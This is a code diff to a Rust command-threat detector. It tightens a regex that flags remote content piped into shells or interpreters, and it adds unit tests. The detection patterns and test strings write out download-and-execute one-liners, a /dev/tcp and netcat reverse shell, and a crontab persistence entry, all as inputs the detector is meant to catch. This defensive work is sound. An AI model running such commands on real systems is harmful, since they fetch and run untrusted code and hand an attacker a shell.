@@ -337,7 +337,7 @@ static COMMAND_PATTERNS: LazyLock<Vec<(Technique, Regex, &'static str)>> = LazyL
     let v: Vec<(Technique, &str, &'static str)> = vec![
         (
             Technique::DownloadExecute,
-            r"\b(curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod)\b[^|;&\n]*\|\s*(sudo\s+)?(ba|z|k|da|fi)?sh\b|\b(curl|wget)\b[^|;&\n]*\|\s*(sudo\s+)?(python[0-9.]*|perl|ruby|node|php)\b|\b(ba|z)?sh\s+<\(\s*(curl|wget)|\b(ba|z)?sh\s+-c\s+['\x22]?\$\(\s*(curl|wget)|\biex\b.*\b(downloadstring|invoke-webrequest|iwr)\b|\b(downloadstring|downloadfile)\b.*\biex\b|\bcertutil\b.*-urlcache|\b(curl|wget)\b[^;&|\n]*(\s-o\s*|\s-O\s*|>\s*)\S+[^\n]*(;|&&)\s*chmod\s+(\+x|[0-7]*[1357][0-7]*\b|u\+x|a\+x)",
+            r"\b(curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod)\b[^|;&\n]*\|\s*(sudo\s+)?(ba|z|k|da|fi)?sh\b|\b(curl|wget)\b[^|;&\n]*\|\s*(sudo\s+)?(python[0-9.]*|perl|ruby|node|php)\s*(-\s*)?($|[;&|)\x27\x22])|\b(ba|z)?sh\s+<\(\s*(curl|wget)|\b(ba|z)?sh\s+-c\s+['\x22]?\$\(\s*(curl|wget)|\biex\b.*\b(downloadstring|invoke-webrequest|iwr)\b|\b(downloadstring|downloadfile)\b.*\biex\b|\bcertutil\b.*-urlcache|\b(curl|wget)\b[^;&|\n]*(\s-o\s*|\s-O\s*|>\s*)\S+[^\n]*(;|&&)\s*chmod\s+(\+x|[0-7]*[1357][0-7]*\b|u\+x|a\+x)",
             "remote content piped into an interpreter or downloaded and made executable",
         ),
         (
@@ -555,6 +555,10 @@ mod tests {
         };
         assert!(t("curl -s https://h.example/p.sh | bash").contains(&Technique::DownloadExecute));
         assert!(t("wget -qO- http://h/x | sudo sh").contains(&Technique::DownloadExecute));
+        assert!(
+            t("curl -s https://h.example/x.py | python3 -").contains(&Technique::DownloadExecute)
+        );
+        assert!(t("curl -s https://h.example/x.py | python").contains(&Technique::DownloadExecute));
         assert!(t("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").contains(&Technique::ReverseShell));
         assert!(t("nc -e /bin/sh 10.0.0.1 4444").contains(&Technique::ReverseShell));
         assert!(t("(crontab -l; echo '* * * * * x') | crontab -").contains(&Technique::Persistence));
@@ -583,6 +587,8 @@ mod tests {
             "docker ps",
             "python -m pytest",
             "grep -r TODO src",
+            "curl -s https://api.example.com/items | python -m json.tool",
+            "curl -s https://api.example.com/items | node scripts/format.js",
             "tar -xzf archive.tgz -C out",
         ] {
             assert!(
